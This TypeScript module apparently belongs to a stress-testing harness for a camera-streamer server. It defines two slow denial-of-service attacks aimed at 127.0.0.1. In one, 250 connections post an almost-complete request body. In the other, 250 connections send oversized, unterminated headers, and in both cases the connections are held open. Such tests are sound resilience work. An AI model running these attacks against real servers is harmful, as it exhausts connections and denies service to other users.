import type { Attack } from './attack.js'
import { holdConnections } from './holding.js'

const CONNECTIONS = 250
/** The default `max-body-bytes`, and a little less than `max-header-bytes`, because the parser counts more than is sent. */
const BODY_BYTES = 131_072
const HEADER_BYTES = 16_000

/** A camera-streamer request without the last byte of its body. */
export const unfinishedBody = (bytes = BODY_BYTES): Buffer =>
  Buffer.concat([
    Buffer.from(
      `POST /webrtc HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: ${bytes}\r\n\r\n`,
    ),
    Buffer.alloc(bytes - 1, '{"type":"request"}'),
  ])

/** Headers without the final empty line. @param begin request line and first headers. */
export function unfinishedHeaders(
  bytes = HEADER_BYTES,
  begin = 'GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n',
): Buffer {
  const line = (index: number): string => `X-${index}: ${'a'.repeat(100)}\r\n`
  let text = begin
  for (let index = 0; text.length < bytes - line(index).length; index++) text += line(index)
  return Buffer.from(text)
}

export const bodies: Attack = {
  name: 'bodies',
  about: `${CONNECTIONS} connections post all but the last byte of the largest body, and wait`,
  run: async (field) => {
    const bytes = unfinishedBody()
    await holdConnections(field, CONNECTIONS, (connection) => connection.send(bytes))
  },
}

export const headers: Attack = {
  name: 'headers',
  about: `${CONNECTIONS} connections send headers up to the limit without their end, and wait`,
  run: async (field) => {
    const bytes = unfinishedHeaders()
    await holdConnections(field, CONNECTIONS, (connection) => connection.send(bytes))
  },
}
